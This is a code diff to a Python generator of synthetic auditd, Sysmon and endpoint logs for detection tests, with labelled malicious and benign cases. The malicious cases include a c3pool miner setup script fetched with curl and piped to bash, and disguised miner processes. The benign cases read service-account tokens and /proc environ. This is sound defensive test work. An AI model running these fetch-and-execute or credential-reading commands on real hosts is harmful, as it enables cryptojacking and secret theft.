@@ -126,7 +126,7 @@ def endpoint(events, host):
 
 def quote_arg(value):
     """EXECVE writes an argument quoted, or in hex when it has a space, quote or control byte."""
-    if any(c in value for c in ' "\'') or any(ord(c) < 0x21 or ord(c) > 0x7e for c in value):
+    if '"' in value or any(ord(c) < 0x21 or ord(c) > 0x7e for c in value):
         return binascii.hexlify(value.encode()).decode().upper()
     return f'"{value}"'
 
@@ -149,7 +149,7 @@ def auditd(events, host):
         comm = e["name"][:15]
         if kind == "proc":
             lines.append(f'{head}SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=5 a1=7ffc '
-                         f'a2=10 a3=0 items=2 ppid={e["pid"] - 1} pid={e["pid"]} {ids} comm="{comm}" '
+                         f'a2=10 a3=0 items=1 ppid={e["pid"] - 1} pid={e["pid"]} {ids} comm="{comm}" '
                          f'exe="{e["exe"]}" key="exec"')
             args = " ".join(f"a{i}={quote_arg(a)}" for i, a in enumerate(e["args"]))
             lines.append(f"{head}EXECVE msg=audit({stamp}): argc={len(e['args'])} {args}")
@@ -193,8 +193,10 @@ def sysmon(events, host):
                          "ParentCommandLine": parent[1], "ParentUser": "root"})
         elif kind == "net":
             v6 = ":" in e["ip"]
-            data.update({"User": e.get("user", "root"), "Protocol": "tcp", "Initiated": "true",
-                         "SourceIsIpv6": "true" if v6 else "false", "SourceIp": "fd00::7" if v6 else "10.0.7.7",
+            data.update({"User": e.get("user", "root"), "Protocol": "tcp",
+                         "Initiated": "false" if e.get("inbound") else "true",
+                         "SourceIsIpv6": "true" if v6 else "false",
+                         "SourceIp": "203.0.113.99" if e.get("inbound") else "fd00::7" if v6 else "10.0.7.7",
                          "SourceHostname": "-", "SourcePort": "44321", "SourcePortName": "-",
                          "DestinationIsIpv6": "true" if v6 else "false", "DestinationIp": e["ip"],
                          "DestinationHostname": e.get("domain", "-"), "DestinationPort": str(e["port"]),
@@ -342,8 +344,8 @@ VARIATIONS = [
      "A miner named sshd running from /tmp, masquerading as the SSH daemon.", "teamtnt",
      [proc("sshd", "/tmp/sshd", ["/tmp/sshd", "-B"])]),
     ("kworker-named-miner", M, "auditd",
-     "A miner executed under a kernel worker's name, which no executable file has.", "watchdog",
-     [proc("kworker/0:1", "/usr/lib/.kw/kworker/0:1", ["[kworker/0:1]"])]),
+     "A miner file named kworker, run as [kworker/0:1]: kernel threads are never executed from a file.", "watchdog",
+     [proc("kworker", "/usr/lib/.kw/kworker", ["[kworker/0:1]"])]),
     ("c3pool-setup-script", M, "endpoint",
      "The c3pool miner setup script fetched and piped to bash with a wallet.", "8220",
      [proc("bash", "/usr/bin/bash", ["bash", "-c", "curl -s -L https://download.c3pool.org/xmrig_setup/raw/master/"
@@ -355,9 +357,13 @@ VARIATIONS = [
     ("pool-ip-tls-hidden-tmp", M, "sysmon",
      "A miner in a hidden /var/tmp folder reaching nanopool's TLS port by IP.", "watchdog",
      [net("ice", "/var/tmp/.ICE-unix/ice", "51.15.58.224", 14433)]),
-    ("nicehash-by-domain", M, "sysmon",
-     "A renamed miner connecting to NiceHash by name on a port outside the pool-port list.", "xmrig",
-     [net("node", "/usr/bin/node", "203.0.113.71", 9200, domain="randomxmonero.auto.nicehash.com")]),
+    ("nicehash-lookup", M, "endpoint",
+     "A renamed miner resolving NiceHash's RandomX endpoint.", "xmrig",
+     [dns("node", "/usr/bin/node", "randomxmonero.auto.nicehash.com")]),
+    ("miner-from-cloud-init", M, "endpoint",
+     "A malicious AMI's user data starting a miner through cloud-init.", "stratus-gpu",
+     [proc("xmrig", "/var/lib/cloud/instance/scripts/xmrig", ["xmrig", "-c", "/etc/xmrig.json"],
+           parent=("cloud-init", "/usr/bin/cloud-init"))]),
     ("herominers-port", M, "auditd",
      "A python process inside an image connecting to a HeroMiners port.", "unit42-images",
      [net("python3", "/usr/bin/python3.11", "198.51.100.90", 10191)]),
@@ -532,10 +538,38 @@ VARIATIONS = [
     ("cat-own-aws-credentials", B, "auditd",
      "A developer reading their own credentials file on a workstation.", "aws-cli-export",
      [proc("cat", "/usr/bin/cat", ["cat", "/home/dev/.aws/credentials"], cwd="/home/dev")]),
-    ("ldd-list", B, "endpoint",
-     "ldd running the dynamic loader with --list.", "ldd",
+    ("ldd-loader", B, "endpoint",
+     "ldd running the dynamic loader on the program it inspects, as glibc's ldd does.", "ldd",
      [proc("ld-linux-x86-64.so.2", "/usr/lib64/ld-linux-x86-64.so.2",
-           ["/lib64/ld-linux-x86-64.so.2", "--list", "/usr/bin/python3"])]),
+           ["/lib64/ld-linux-x86-64.so.2", "--verify", "/usr/bin/python3"]),
+      proc("ld-linux-x86-64.so.2", "/usr/lib64/ld-linux-x86-64.so.2",
+           ["/lib64/ld-linux-x86-64.so.2", "/usr/bin/python3"], pid=4102)]),
+    ("official-jenkins", B, "docker",
+     "The Jenkins project's own image, jenkins/jenkins:lts.", "official-images",
+     [pull("jenkins/jenkins:lts")]),
+    ("official-arm64-alpine", B, "docker",
+     "An official image's per-architecture build, arm64v8/alpine.", "official-images",
+     [pull("arm64v8/alpine:3.19")]),
+    ("k8s-api-with-pod-token", B, "endpoint",
+     "The usual in-pod call to the Kubernetes API with the pod's own token.", "k8s-token",
+     [proc("sh", "/bin/sh", ["sh", "-c", "curl -s --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt -H "
+                                        "\"Authorization: Bearer $(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\" "
+                                        "https://kubernetes.default.svc/api/v1/namespaces/default/pods"], container=C)]),
+    ("curl-netrc-file", B, "auditd",
+     "curl reading its credentials from a netrc file, as netrc is meant to be used.", "curl",
+     [proc("curl", "/usr/bin/curl", ["curl", "--netrc-file", "/root/.netrc", "-O", "https://repo.example.com/pkg.tgz"])]),
+    ("cron-env-from-proc", B, "endpoint",
+     "A container entrypoint copying PID 1's environment for cron.", "k8s-token",
+     [proc("cat", "/bin/cat", ["cat", "/proc/1/environ"], container=C, parent=SHIM)]),
+    ("aws-configure-set-in-ci", B, "endpoint",
+     "A CI job writing a secret key into the CLI's configuration.", "aws-cli-export",
+     [proc("aws", "/usr/local/bin/aws", ["aws", "configure", "set", "aws_secret_access_key", "wJalrXUtnFEMI"])]),
+    ("inbound-on-pool-port", B, "sysmon",
+     "A service on a host's public address accepting a connection on port 3333.", "node",
+     [net("node", "/usr/bin/node", "198.51.100.61", 3333, inbound=True)]),
+    ("poetry-in-root-home", B, "endpoint",
+     "Poetry installed in /root/.local/bin, in a container, fetching over SSH.", "git",
+     [net("poetry", "/root/.local/bin/poetry", "140.82.112.4", 22, container=C)]),
     ("ntp-pool", B, "endpoint",
      "chrony resolving the NTP pool and connecting on port 123.", "ntp-pool",
      [dns("chronyd", "/usr/sbin/chronyd", "2.debian.pool.ntp.org"),
